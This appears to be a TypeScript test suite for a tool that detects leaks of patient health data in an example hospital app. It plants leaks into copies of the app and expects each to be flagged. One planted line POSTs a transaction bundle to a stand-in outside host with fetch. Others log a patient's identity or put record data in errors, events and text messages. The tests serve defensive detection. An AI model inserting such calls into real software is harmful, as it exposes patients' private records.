/** The example app: clean as it stands, and found out where somebody plants a leak into a copy of it. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { findFiles } from "../../input/disk-files.ts";
import { runCase } from "./testing/run-case.ts";

const folder = fileURLToPath(new URL("../../../../../examples/hospital", import.meta.url));
const app = new Map(
  findFiles(folder, ".")
    .filter((path) => /\.(?:ts|json|ya?ml|cedar)$/.test(path) && !path.includes(".test."))
    .map((path) => [path, readFileSync(`${folder}/${path}`, "utf8")]),
);

/** The app with a text of one file replaced. */
function planted(file: string, from: string, to: string): ReadonlyMap<string, string> {
  const text = app.get(file) ?? "";
  assert.ok(text.includes(from), `${file} holds what is to be replaced`);
  return new Map([...app, [file, text.replace(from, to)]]);
}

async function foundIn(files: ReadonlyMap<string, string>): Promise<readonly string[]> {
  const { findings } = await runCase(files);
  return findings
    .filter(({ kind }) => kind !== "pass")
    .map(({ kind, rule, resource, position }) => `${kind} ${rule.id} ${resource.name} ${position.file}`);
}

describe("the hospital's functions", () => {
  it("let no PHI out, as far as following it to its end shows", async () => {
    const { findings } = await runCase(app);
    assert.deepEqual(await foundIn(app), []);
    const shown = findings.filter(({ resource }) => resource.name === "lab-result").map(({ rule }) => rule.id);
    assert.ok(shown.includes("phi-stays-out-of-logs") && shown.includes("phi-is-followed-to-its-end"));
  });

  it("are found out where a patient's name goes to the console", async () => {
    const files = planted(
      "functions/lab-result.ts",
      "const reports = new Map",
      "console.log(lab.identity);\n    const reports = new Map",
    );
    assert.deepEqual(await foundIn(files), ["fail phi-stays-out-of-logs lab-result functions/lab-result.ts"]);
  });

  it("are found out where a text of the message stands in an error, three files away", async () => {
    const files = planted(
      "hl7-to-fhir/text.ts",
      'throw new Reject("data-type-error")',
      "throw new Error(`control character in ${text}`)",
    );
    const { findings } = await runCase(files);
    const found = findings.filter(({ kind }) => kind !== "pass");
    assert.deepEqual(
      [...new Set(found.map(({ kind, rule }) => `${kind} ${rule.id}`))],
      ["fail phi-stays-out-of-errors"],
    );
    const way = found[0]?.steps?.map(({ position, text }) => `${position.file} ${text}`) ?? [];
    assert.ok(
      way.some((step) => step.startsWith("hl7-to-fhir/text.ts") && step.includes("put into an error")),
      way.join(),
    );
  });

  it("are found out where an event carries a number of the patient", async () => {
    const files = planted(
      "functions/lab-result.ts",
      "{ subject, resource:",
      "{ subject: lab.identity.mrn.value, resource:",
    );
    assert.deepEqual(await foundIn(files), ["fail phi-stays-out-of-events lab-result functions/lab-result.ts"]);
  });

  it("are found out where a transaction is sent to somebody", async () => {
    const files = planted(
      "functions/lab-result.ts",
      "const answer = await",
      'await fetch("https://collect.example.com", { method: "POST", body: JSON.stringify(transaction.bundle) });\n    const answer = await',
    );
    assert.deepEqual(await foundIn(files), ["fail phi-goes-to-no-third-party lab-result functions/lab-result.ts"]);
  });

  it("are found out where a text message quotes a record, through a host whose grant carries none", async () => {
    const files = planted(
      "functions/notify.ts",
      'const message = { to: event.subject, text: "You have a new lab result"',
      'const report = await ctx.fhir.read("DiagnosticReport", "1");\n    const message = { to: event.subject, text: report.conclusion',
    );
    assert.deepEqual(await foundIn(files), ["fail phi-goes-to-no-third-party notify functions/notify.ts"]);
  });
});
